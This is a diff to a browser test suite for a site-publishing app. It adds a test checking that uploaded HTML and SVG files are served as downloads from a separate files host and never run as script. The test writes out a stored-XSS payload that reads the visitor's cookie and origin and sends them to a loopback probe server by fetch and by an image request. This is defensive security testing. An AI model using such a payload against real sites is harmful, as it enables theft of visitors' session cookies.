@@ -1,13 +1,14 @@
 import assert from 'node:assert/strict';
 import { createHmac } from 'node:crypto';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
 import os from 'node:os';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { crc32, deflateSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, it } from '@jest/globals';
 import { chromium, type Browser, type BrowserContext, type Locator, type Page } from 'playwright-core';
-import { repoRoot } from '@quire/datastore';
+import { freePort, repoRoot } from '@quire/datastore';
 import { isolatedGit, startTestStack, type TestAccount, type TestStack } from '@quire/testkit';
 
 /** Debian's Chromium (scripts/install-chromium.sh); CHROMIUM_PATH for another one. */
@@ -28,7 +29,8 @@ const MAX_CRAWL = 60;
  * share-link and visitor-auth sites let in only who they should; and every page reachable
  * from a site's root passes basic accessibility checks (title, lang, one h1, heading levels,
  * alt text), links only to addresses that answer, loads every image, asks nothing of another
- * server and logs no error — for pages written in the app and for a Git-imported repository.
+ * server (but the files host, where images come from) and logs no error — for pages written in
+ * the app and for a Git-imported repository. And no uploaded file runs as script.
  */
 
 /** A PNG of one colour (real pixels: the browser decodes it). */
@@ -118,6 +120,8 @@ describe('published sites in a browser', () => {
   let user: TestAccount;
   let orgId: string;
   let origin: string;
+  /** The files host (FILES_BASE_URL): the gateway under another name, localhost (the API is 127.0.0.1). */
+  let filesOrigin: string;
   let workRoot: string;
   let guides: string;
   let guidesV2: string;
@@ -175,7 +179,7 @@ describe('published sites in a browser', () => {
       const location = response.headers.get('location');
       if (response.status < 300 || response.status >= 400 || !location) return String(response.status);
       const next = new URL(location, current);
-      if (next.origin !== origin) return `${response.status} to another origin (${next.origin})`;
+      if (next.origin !== origin && next.origin !== filesOrigin) return `${response.status} to another origin (${next.origin})`;
       current = next.href;
     }
     return 'too many redirects';
@@ -194,7 +198,8 @@ describe('published sites in a browser', () => {
     let visiting = root;
     page.on('request', (request) => {
       const url = new URL(request.url());
-      if (url.protocol !== 'data:' && url.origin !== origin) report.problems.push(`${visiting}: asked another origin for ${request.url()}`);
+      if (url.protocol !== 'data:' && url.origin !== origin && url.origin !== filesOrigin)
+        report.problems.push(`${visiting}: asked another origin for ${request.url()}`);
     });
     page.on('console', (message) => {
       if (message.type() !== 'error') return;
@@ -274,9 +279,18 @@ describe('published sites in a browser', () => {
 
   beforeAll(async () => {
     workRoot = mkdtempSync(path.join(os.tmpdir(), 'quire-published-browser-'));
+    // The gateway's port is chosen here, for the files host's address to name it.
+    const port = await freePort();
+    filesOrigin = `http://localhost:${port}`;
     [stack, browser] = await Promise.all([
-      // file:// remotes for the Git-imported site (loopback only).
-      startTestStack({ GIT_ALLOWED_PROTOCOLS: 'https,file', GIT_ALLOW_PRIVATE_NETWORKS: 'true', GIT_OPERATION_TIMEOUT_MS: '10000' }),
+      startTestStack({
+        PORT: String(port),
+        FILES_BASE_URL: filesOrigin,
+        // file:// remotes for the Git-imported site (loopback only).
+        GIT_ALLOWED_PROTOCOLS: 'https,file',
+        GIT_ALLOW_PRIVATE_NETWORKS: 'true',
+        GIT_OPERATION_TIMEOUT_MS: '10000',
+      }),
       chromium.launch({
         executablePath: CHROMIUM,
         args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
@@ -481,6 +495,125 @@ describe('published sites in a browser', () => {
           "has basePath '/', so on the gateway the 404 page asks /~/site.css (and searches /~/search), outside any site: " +
           'the page is unstyled and its stylesheet answers 404.',
       );
+    },
+    TEST_MS,
+  );
+
+  it(
+    'never runs an uploaded file as script: HTML and SVG are downloads from the files host, images still show inline',
+    async () => {
+      // A probe on loopback: whatever reaches it was sent by a script of an uploaded file (or by the control below).
+      const hits: string[] = [];
+      const probe: Server = createServer((req, res) => {
+        hits.push(req.url ?? '');
+        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
+      });
+      await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
+      const probeUrl = `http://127.0.0.1:${(probe.address() as { port: number }).port}`;
+      // What a hostile member uploads: read the visitor's cookie and the site's pages, and tell the probe.
+      const payload = (kind: string) =>
+        `document.title = 'ran'; fetch('${probeUrl}/ran/${kind}?origin=' + encodeURIComponent(location.origin) + '&cookie=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }); new Image().src = '${probeUrl}/image/${kind}';`;
+      const upload = (name: string, contentType: string, text: string | Buffer) => ({
+        ref: name,
+        name,
+        contentType,
+        data: Buffer.from(text).toString('base64'),
+      });
+      const space = await newSpace('Hostile uploads', 'en');
+      const written = await write(space, [
+        {
+          type: 'insert_files',
+          files: [
+            upload('probe.html', 'text/html', `<!doctype html><html><head><title>probe</title></head><body><script>${payload('html')}</script></body></html>`),
+            upload(
+              'probe.svg',
+              'image/svg+xml',
+              `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload('svg-onload').replaceAll("'", '&apos;')}"><script>${payload('svg')}</script></svg>`,
+            ),
+            upload('pixel.png', 'image/png', png(10, 10, [220, 120, 0])),
+          ],
+        },
+      ]);
+      const files = new Map<string, { id: string; downloadURL: string }>(written.insertedFiles.map((file: any) => [file.name, file]));
+      const fileId = (name: string) => files.get(name)?.id as string;
+      await write(space, [
+        {
+          type: 'insert_page',
+          title: 'Attachments',
+          slug: 'attachments',
+          markdown: `![An orange square](/files/${fileId('pixel.png')})\n\n[The page](/files/${fileId('probe.html')}) and [the drawing](/files/${fileId('probe.svg')}).`,
+        },
+      ]);
+      const site = await newSite({ title: 'Uploads', spaces: [space], visibility: 'share-link' });
+      const link = await user.api.post(`${sites()}/${site.id}/share-links`, { name: 'Visitors' });
+      assert.equal(link.status, 201, JSON.stringify(link.body));
+      const root = site.urls.published;
+
+      // A visitor of the share-link site: the site's cookie is in the browser, as in the attack.
+      const { context, page } = await newPage();
+      const images: string[][] = [];
+      page.on('response', (response) => {
+        if (response.request().resourceType() === 'image')
+          images.push([new URL(response.url()).origin, String(response.status()), response.headers()['content-disposition']]);
+      });
+      try {
+        assert.equal((await page.goto(link.body.urls.published))?.status(), 200);
+        assert.equal((await context.cookies()).length, 1, 'the share-link cookie is set');
+        const image = page.locator('img[alt="An orange square"]');
+        await image.scrollIntoViewIfNeeded();
+        await page.waitForFunction(imagesSettled, undefined, { timeout: ACTION_MS, polling: 50 });
+        assert.deepEqual(await image.evaluate((img: any) => [img.naturalWidth, img.naturalHeight]), [10, 10], 'the PNG shows');
+        assert.deepEqual(
+          images,
+          [
+            [origin, '302', undefined],
+            [filesOrigin, '200', `inline; filename="pixel.png"; filename*=UTF-8''pixel.png`],
+          ],
+          'from the files host, inline',
+        );
+
+        // Each hostile file, by its signed address and by the site's link: a download, never a page.
+        for (const name of ['probe.html', 'probe.svg']) {
+          const signed = files.get(name)?.downloadURL as string;
+          assert.equal(new URL(signed).origin, filesOrigin, `${name} is served from the files host`);
+          for (const address of [signed, `${root}~/files/${space}/${fileId(name)}`]) {
+            const downloading = page.waitForEvent('download', { timeout: ACTION_MS }).catch(() => undefined);
+            const opened = await page.goto(address).catch(() => undefined);
+            const download = await downloading;
+            assert.ok(download, `${address} opened as a page (${opened?.headers()['content-type']}), not a download; the probe heard: ${hits.join(', ')}`);
+            assert.equal(download.suggestedFilename(), name, address);
+            assert.equal(new URL(download.url()).origin, filesOrigin, address);
+            await download.cancel();
+          }
+        }
+        assert.notEqual(await page.title(), 'ran');
+
+        // Framed, objected and embedded by a page of anyone's: still nothing runs.
+        const framing = await newPage();
+        const frames = [...files.values()]
+          .filter((file) => !file.downloadURL.includes(fileId('pixel.png')))
+          .map((file) => `<iframe src="${file.downloadURL}"></iframe><object data="${file.downloadURL}"></object><embed src="${file.downloadURL}">`)
+          .join('');
+        await framing.page.setContent(`<!doctype html><title>frames</title>${frames}`, { waitUntil: 'load' });
+        // The control: a script of a page of our own does reach the probe (so silence below means something).
+        await framing.page.evaluate((url: string) => void fetch(`${url}/control`, { mode: 'no-cors' }), probeUrl);
+        await framing.page.waitForTimeout(1_000);
+        for (let waited = 0; waited < ACTION_MS && !hits.includes('/control'); waited += 100) await framing.page.waitForTimeout(100);
+        await framing.context.close();
+        assert.deepEqual(hits, ['/control'], `an uploaded file's script ran: ${hits.join(', ')}`);
+
+        // An image answered by itself still displays (inline, its own type).
+        const direct = await page.goto(files.get('pixel.png')?.downloadURL as string);
+        assert.equal(direct?.status(), 200);
+        assert.deepEqual(
+          ['content-type', 'content-disposition', 'content-security-policy', 'x-content-type-options'].map((header) => direct?.headers()[header]),
+          ['image/png', `inline; filename="pixel.png"; filename*=UTF-8''pixel.png`, "sandbox; default-src 'none'", 'nosniff'],
+        );
+        assert.equal(await page.evaluate(() => (globalThis as any).document.images[0]?.naturalWidth), 10);
+      } finally {
+        await context.close();
+        probe.close();
+      }
     },
     TEST_MS,
   );
